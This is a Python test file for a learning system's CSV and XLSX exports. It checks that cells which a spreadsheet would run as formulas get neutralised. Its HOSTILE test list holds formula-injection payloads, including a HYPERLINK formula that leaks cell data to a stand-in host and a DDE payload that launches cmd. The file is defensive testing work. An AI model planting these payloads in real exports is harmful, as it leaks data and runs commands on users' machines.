"""Every CSV (and XLSX) export neutralises cells a spreadsheet would run as a formula.

``EXPORTS`` names every export route; a new ``.csv`` or ``.xlsx`` route without a row here fails
``test_every_export_is_listed``, so a new export cannot skip ``lms.services.exports``.
"""

from __future__ import annotations

import csv
import io
import zipfile

import pytest

from lms.services.exports import FORMULA_STARTS, XLSX_MIMETYPE, csv_text, safe_cell, xlsx_bytes
from tests.factories import enrol, make_cohort, make_user

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]
NORMAL = ["Amina Khan", "José D'Souza", "آمنہ خان", "O'Brien-Smith", "Bilal Ahmed (ASI)"]


def _progress_matrix(viewer, names):
    cohort = make_cohort(viewer, [make_user(full_name=name) for name in names])
    return f"/teach/cohorts/{cohort.id}/matrix.csv"


def _own_records(viewer, names):
    """A person's own records: the names stand as the cohorts they belong to."""
    teacher = make_user(role="instructor")
    for name in names:
        make_cohort(teacher, [viewer], name=name)
    return "/account/records.zip"


def _figures(kind):
    """The programme figures: the names stand as organisations (the figures list each one)."""

    def make(viewer, names):
        for name in names:
            enrol(make_user(organisation=name))
        return f"/figures/{kind}"

    return make


def _learner_figures(viewer, names):
    for name in names:
        enrol(make_user(full_name=name))
    return "/figures/learners.csv"


#: endpoint -> a function (viewer, learner names) that sets up data and returns the export's URL
EXPORTS = {
    "cohorts.matrix_csv": _progress_matrix,
    "auth.my_records": _own_records,
    "figures.export_csv": _figures("figures.csv"),
    "figures.export_xlsx": _figures("figures.xlsx"),
    "figures.learners_csv": _learner_figures,
}
#: exports that hold no spreadsheet, so nothing in them is read as a formula
NOT_SPREADSHEETS = {"cohorts.certificates_zip"}  # a ZIP of certificate PDFs


def test_every_export_is_listed(app):
    exports = {
        rule.endpoint
        for rule in app.url_map.iter_rules()
        if any(kind in rule.rule for kind in (".csv", ".xlsx", "zip"))
    }
    assert exports - NOT_SPREADSHEETS == set(EXPORTS), (
        "list every export here, written through lms.services.exports"
    )


def _cells(response) -> list[list[str]]:
    assert response.status_code == 200
    if response.mimetype == "text/csv":
        text = response.get_data(as_text=True).lstrip("\ufeff")
        return list(csv.reader(io.StringIO(text, newline="")))
    if response.mimetype == "application/zip":
        archive = zipfile.ZipFile(io.BytesIO(response.get_data()))
        return [
            row
            for name in archive.namelist()
            for row in csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"), newline=""))
        ]
    if response.mimetype == XLSX_MIMETYPE:
        from openpyxl import load_workbook

        book = load_workbook(io.BytesIO(response.get_data()), read_only=True)
        return [
            ["" if cell is None else str(cell) for cell in row]
            for sheet in book
            for row in sheet.iter_rows(values_only=True)
        ]
    raise AssertionError(f"an export of an unknown type: {response.mimetype}")


@pytest.mark.parametrize("endpoint", sorted(EXPORTS))
def test_hostile_names_are_neutralised_and_normal_names_untouched(
    app, client, admin, login_as, endpoint
):
    url = EXPORTS[endpoint](admin, HOSTILE + NORMAL)
    login_as(admin)
    rows = _cells(client.get(url))
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        assert not cell.startswith(FORMULA_STARTS), f"a formula reaches the spreadsheet: {cell!r}"
    for name in HOSTILE:  # (XML, so XLSX, reads a carriage return back as a line feed)
        assert "'" + name in cells or ("'" + name).replace("\r", "\n") in cells, name
    for name in NORMAL:
        assert name in cells, name


def test_an_xlsx_holds_no_formula():
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(xlsx_bytes([("Sheet", [HOSTILE, [-2, 1.5, None]])])))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    shown = [c.value for c in cells[: len(HOSTILE)]]
    assert shown == ["'" + v.replace("\r", "\n") for v in HOSTILE]


def test_safe_cell():
    assert [safe_cell(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert [safe_cell(v) for v in NORMAL] == NORMAL
    assert [safe_cell(v) for v in (-2, 0, 1.5, None, "")] == [-2, 0, 1.5, None, ""]
    assert csv_text([["=1+1", -3, "a,b"]]) == '\'=1+1,-3,"a,b"\r\n'
